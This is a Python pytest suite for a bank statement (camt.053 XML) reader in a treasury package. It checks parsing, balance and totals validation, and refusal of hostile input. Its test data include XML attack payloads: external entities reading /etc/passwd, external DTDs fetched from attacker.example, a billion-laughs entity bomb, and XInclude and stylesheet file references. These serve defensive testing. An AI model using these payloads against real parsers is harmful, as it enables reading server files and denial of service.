"""The statement reader: what banks send is read, what attackers send is refused."""

import hashlib
import time
from datetime import date
from importlib import resources

import pytest

from guild.treasury.errors import StatementDoesNotAdd, StatementTooLarge, StatementUnreadable
from guild.treasury.rules.camt053 import MAX_BYTES, ReadStatement, read_statements
from tests.camt import Move, camt053

IBAN = "BE71096123456769"
DAY = date(2026, 11, 20)
PAYER = Move(
    cents=121_000,
    reference="R1",
    name="Proef & Zoon bv",
    iban="BE68539007547034",
    structured="090933755493",
    text="factuur 2026-0001",
)


def a_statement(*moves: Move, opening: int = 5_000, closing: int | None = None) -> bytes:
    return camt053(
        iban=IBAN, number=7, opening_cents=opening, moves=moves, day=DAY, closing_cents=closing
    )


def read(content: bytes) -> ReadStatement:
    (statement,) = read_statements(content)
    return statement


def test_reads_what_the_bank_says() -> None:
    statement = read(a_statement(PAYER, Move(cents=-1_250, reference="R2", text="Charges")))
    assert (statement.iban, statement.number, statement.currency) == (IBAN, "7", "EUR")
    assert (statement.opening_minor, statement.closing_minor) == (5_000, 124_750)
    assert (statement.from_on, statement.to_on) == (DAY, DAY)
    first, second = statement.entries
    assert first.amount_minor == 121_000
    assert first.counterparty == "Proef & Zoon bv"
    assert first.counterparty_iban == "BE68539007547034"
    assert first.structured == "090933755493"
    assert first.text == "factuur 2026-0001"
    assert (second.amount_minor, second.counterparty) == (-1_250, "")


def test_a_batch_keeps_each_payment_with_its_amount() -> None:
    parts = (
        Move(cents=10_000, reference="", name="One bv", structured="RF18539007547034"),
        Move(cents=20_050, reference="", name="Two bv", text="rent"),
    )
    statement = read(a_statement(Move(cents=30_050, reference="B1", parts=parts)))
    assert [(e.reference, e.amount_minor, e.counterparty) for e in statement.entries] == [
        ("B1:1", 10_000, "One bv"),
        ("B1:2", 20_050, "Two bv"),
    ]
    assert statement.entries[0].structured == "RF18539007547034"


def test_a_batch_whose_payments_do_not_add_up_is_refused() -> None:
    parts = (Move(cents=10_000, reference=""), Move(cents=20_000, reference=""))
    with pytest.raises(StatementDoesNotAdd, match="batch B1"):
        read(a_statement(Move(cents=30_050, reference="B1", parts=parts)))


def test_pending_entries_are_apart_from_booked_ones() -> None:
    pending = Move(cents=99_900, reference="P1", status="PDNG")
    statement = read(a_statement(PAYER, pending))
    assert [entry.reference for entry in statement.entries] == ["R1"]
    assert len(statement.pending) == 1


def test_a_returned_payment_carries_its_reason_and_our_id() -> None:
    returned = Move(
        cents=91_000, reference="X", end_to_end_id="0" * 32, return_reason="AC04", name="Ada"
    )
    (entry,) = read(a_statement(returned)).entries
    assert (entry.return_reason, entry.end_to_end_id) == ("AC04", "0" * 32)


def test_one_bank_reference_twice_stays_two_entries() -> None:
    charge = Move(cents=-50, reference="R1", text="Charge")
    assert [e.reference for e in read(a_statement(PAYER, charge)).entries] == ["R1", "R1#2"]


def test_an_edited_amount_is_refused() -> None:
    honest = a_statement(PAYER)
    with pytest.raises(StatementDoesNotAdd, match="closing balance"):
        read(honest.replace(b">1210.00<", b">9210.00<", 1))


def test_an_edited_payment_inside_an_entry_is_read_from_the_entry() -> None:
    """A single payment's own amount is a repetition; the entry's is what moved the balance."""
    content = a_statement(PAYER)
    first = content.index(b">1210.00<")
    edited = content[: first + 5] + content[first + 5 :].replace(b">1210.00<", b">9210.00<", 1)
    assert read(edited).entries[0].amount_minor == 121_000


@pytest.mark.parametrize(
    "summary",
    [
        "<TtlNtries><NbOfNtries>2</NbOfNtries></TtlNtries>",
        "<TtlCdtNtries><Sum>1210.01</Sum></TtlCdtNtries>",
        "<TtlDbtNtries><NbOfNtries>1</NbOfNtries></TtlDbtNtries>",
    ],
)
def test_totals_that_contradict_the_entries_are_refused(summary: str) -> None:
    content = a_statement(PAYER).replace(
        b"<Ntry>", f"<TxsSummry>{summary}</TxsSummry><Ntry>".encode(), 1
    )
    with pytest.raises(StatementDoesNotAdd, match="totals"):
        read(content)


def test_totals_that_agree_are_accepted() -> None:
    summary = b"<TxsSummry><TtlCdtNtries><NbOfNtries>1</NbOfNtries><Sum>1210</Sum></TtlCdtNtries>"
    content = a_statement(PAYER).replace(b"<Ntry>", summary + b"</TxsSummry><Ntry>", 1)
    assert len(read(content).entries) == 1


def test_another_currency_is_refused() -> None:
    content = a_statement(PAYER).replace(b'<Amt Ccy="EUR">1210.00', b'<Amt Ccy="USD">1210.00', 1)
    with pytest.raises(StatementDoesNotAdd, match="USD"):
        read(content)


def test_a_comment_inside_an_amount_does_not_hide_digits() -> None:
    """XML signature wrapping's cousin: `12<!-- -->10.00` must be read as the schema reads it."""
    content = a_statement(PAYER).replace(b">1210.00<", b">12<!-- x -->10.00<")
    assert read(content).entries[0].amount_minor == 121_000


def test_version_02_is_read_too() -> None:
    content = (
        a_statement(PAYER)
        .replace(b"camt.053.001.08", b"camt.053.001.02")
        .replace(b"<Sts><Cd>BOOK</Cd></Sts>", b"<Sts>BOOK</Sts>")
        .replace(b"<Pty><Nm>", b"<Nm>")
        .replace(b"</Nm></Pty>", b"</Nm>")
        .replace(
            b'<Amt Ccy="EUR">1210.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><RltdPties>', b"<RltdPties>"
        )
    )
    (entry,) = read(content).entries
    assert (entry.amount_minor, entry.counterparty) == (121_000, "Proef & Zoon bv")
    assert entry.structured == "090933755493"


DOCTYPES = [
    '<!DOCTYPE Document [<!ENTITY x "y">]>',
    '<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">',
    '<!DOCTYPE Document PUBLIC "-//X//Y" "http://attacker.example/evil.dtd">',
    "<!DOCTYPE Document>",
]


@pytest.mark.parametrize("doctype", DOCTYPES)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be", "utf-32"])
def test_a_document_type_is_refused_in_any_encoding(doctype: str, encoding: str) -> None:
    honest = a_statement(PAYER).decode().split("\n", 1)[1]
    declared = encoding.removesuffix("-be")
    hostile = f'<?xml version="1.0" encoding="{declared}"?>{doctype}{honest}'.encode(encoding)
    if encoding == "utf-16-be":
        hostile = b"\xfe\xff" + hostile
    with pytest.raises(StatementUnreadable):
        read(hostile)


def test_entities_are_neither_expanded_nor_fetched() -> None:
    doctype = '<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    hostile = (
        a_statement(PAYER)
        .decode()
        .replace("<Document", doctype + "<Document", 1)
        .replace("factuur 2026-0001", "&x;")
    )
    with pytest.raises(StatementUnreadable) as refused:
        read(hostile.encode())
    assert "root:" not in refused.value.detail


def test_a_billion_laughs_end_quickly() -> None:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(12))
    hostile = f"<!DOCTYPE Document [{levels}]><Document>&l11;</Document>".encode()
    started = time.perf_counter()
    with pytest.raises(StatementUnreadable):
        read(hostile)
    assert time.perf_counter() - started < 1


def test_an_xinclude_or_a_stylesheet_instruction_reads_no_file() -> None:
    content = a_statement(PAYER).replace(
        b"<Document", b'<?xml-stylesheet href="file:///etc/passwd"?><Document', 1
    )
    assert len(read(content).entries) == 1
    included = content.replace(
        b"<Ustrd>",
        b'<Ustrd><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>',
    )
    with pytest.raises(StatementUnreadable):
        read(included)


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"not xml",
        b"<Document/>",
        b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.054.001.08"/>',
        b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"/>',
        b"PK\x03\x04",
        b"<a>" * 3_000,
        b"\x00" * 50,
    ],
)
def test_what_is_no_statement_is_refused(content: bytes) -> None:
    with pytest.raises(StatementUnreadable):
        read(content)


def test_too_many_bytes_are_refused_before_parsing() -> None:
    with pytest.raises(StatementTooLarge):
        read(b" " * (MAX_BYTES + 1))


def test_an_amount_with_too_many_decimals_is_refused() -> None:
    with pytest.raises(StatementUnreadable, match="decimals"):
        read(a_statement(PAYER).replace(b">1210.00<", b">1210.005<"))


def test_a_statement_without_opening_balance_is_refused() -> None:
    with pytest.raises(StatementUnreadable, match="OPBD"):
        read(a_statement(PAYER).replace(b"OPBD", b"ITBD"))


def test_two_thousand_entries_take_well_under_a_second() -> None:
    moves = [
        Move(cents=100 + n, reference=f"R{n}", name=f"Client {n} bv", text=f"2026-{n:04d}")
        for n in range(2_000)
    ]
    content = a_statement(*moves)
    read(content)
    started = time.perf_counter()
    statement = read(content)
    assert len(statement.entries) == 2_000
    assert time.perf_counter() - started < 0.8


def test_the_schemas_are_the_published_ones() -> None:
    folder = resources.files("guild.treasury") / "data" / "xsd"
    for line in (folder / "SHA256SUMS").read_text().splitlines():
        digest, name = line.split()
        assert hashlib.sha256((folder / name).read_bytes()).hexdigest() == digest
